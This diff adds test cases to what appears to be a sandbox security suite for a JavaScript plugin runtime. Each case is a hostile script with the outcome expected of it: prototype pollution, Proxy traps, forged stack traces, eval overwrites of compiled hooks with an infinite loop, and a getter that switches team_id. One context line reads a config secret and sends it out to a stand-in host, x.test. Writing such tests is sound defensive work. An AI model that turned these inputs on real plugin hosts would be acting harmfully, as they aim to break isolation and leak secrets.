@@ -32,6 +32,16 @@ extension Attack {
         Attack("an array of events", .isEndedOrReturned, "return [event, event]"),
         Attack("the meta object", .isEndedOrReturned, "return meta"),
         Attack("the global object", .isEndedOrReturned, "return globalThis"),
+        Attack("half a character in a job's name and payload", .returns, #"await meta.jobs['\ud800']({ toJSON() { return { a: '\ud800' } } }).runNow()"#),
+        Attack("descriptors by the prototype of all objects", .returns, "Object.prototype.get = () => 'forged'; event.properties.u = undefined; event.properties.n = NaN"),
+        Attack("a revoked function thrown", .fails("Error"), "const { proxy, revoke } = Proxy.revocable(function () {}, {}); revoke(); throw proxy"),
+        Attack("a function whose name throws", .returns, "event.properties.f = new Proxy(function () {}, { get() { throw new Error('trap') } })"),
+        Attack("a stack with impossible places", .fails("Error: x"), #"const e = new Error('x'); e.stack = 'Error\n    at f (vm.js:-5:-7)\n    at g (vm.js:99999999999999999999:1)'; throw e"#),
+        Attack("a stack of many lines", .fails("Error: x"), #"const e = new Error('x'); e.stack = 'Error\n' + '    at f (vm.js:7:1)\n'.repeat(20000); throw e"#),
+        Attack("an error pictured by the plugin's own patterns", .fails("Error"), "RegExp.prototype.exec = () => ({ index: 0, 0: '' }); String.prototype.split = () => { throw new Error('mine') }; event.a.b.c"),
+        Attack("a returned event whose team changes", .isAnswered, "let n = 0; return { ...event, get team_id() { n += 1; return n > 1 ? 99 : 2 } }"),
+        Attack("a key that can't be shown", .fails("Cannot read properties of undefined"), "event.none[new Proxy({}, { get() { throw new Error('trap') } })]"),
+        Attack("hooks of compiled code overwritten", .timesOut, "for (const name of ['__tick', '__dialect', '__key']) { try { (0, eval)(name + ' = () => { throw 1 }') } catch (e) {} } while (true) {}"),
         Attack("secrets in every place", .returns, "const s = meta.config.secret; console.log(s); event.properties.s = s; await fetch('https://x.test/?k=' + s, { headers: { a: s }, body: s, method: 'POST' })['catch'](() => {}); await meta.storage.set(s, s); await posthog.capture(s, { s }); await meta.jobs[s]({ s }).runNow()"),
     ]
 }
